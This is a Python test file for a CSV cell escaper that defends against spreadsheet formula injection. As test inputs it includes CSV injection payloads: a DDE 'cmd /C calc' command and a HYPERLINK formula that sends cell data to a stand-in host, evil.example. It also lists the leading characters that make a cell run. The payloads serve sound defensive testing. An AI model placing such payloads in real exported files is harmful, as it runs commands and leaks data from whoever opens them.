"""Cells that spreadsheets show and do not run."""

import csv
from datetime import UTC, datetime
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.core.csv_cells import cell, csv_line

RUNNABLE = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        '=HYPERLINK("http://evil.example/?"&A1)',
        " =1",
        "\u200b=1",
        "\ufeff=1",
        "＝1",
        '"=1',
        "'=1",
        "\x00=1",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    """An apostrophe stands before it, which spreadsheets have for that."""
    assert cell(text).startswith("'")
    ((read,),) = csv.reader(StringIO(csv_line([text]), newline=""))
    assert read == cell(text)


def test_what_none_runs_stays() -> None:
    """Numbers are ours, and no text; of texts the inside is as it was."""
    assert cell(-3) == "-3"
    assert cell("El 5 - 3 = 2\n- dijo") == "El 5 - 3 = 2\n- dijo"
    assert cell(None) == ""
    assert cell(datetime(2026, 11, 16, 6, tzinfo=UTC)) == "2026-11-16T06:00:00Z"
    assert cell(("a", "b")) == "a\nb"


def test_controls_are_marks() -> None:
    """A terminal obeys them, and readers end at NUL."""
    assert cell("a\x1b[31mb\x00c\x9bd\ud800") == "a\ufffd[31mb\ufffdc\ufffdd\ufffd"


@given(st.lists(st.text(st.characters(), max_size=30), min_size=1, max_size=5))
def test_any_line_is_read_back_whole(texts: list[str]) -> None:
    """As RFC 4180 has it: whatever is in them, as many cells come back, each as it was written, and none runs."""
    rows = list(csv.reader(StringIO(csv_line(texts), newline="")))
    assert rows == [[cell(text) for text in texts]] or (rows == [[]] and texts == [""])
    assert not any(value.lstrip().startswith(RUNNABLE) for row in rows for value in row)
    assert csv_line(texts).endswith("\r\n")
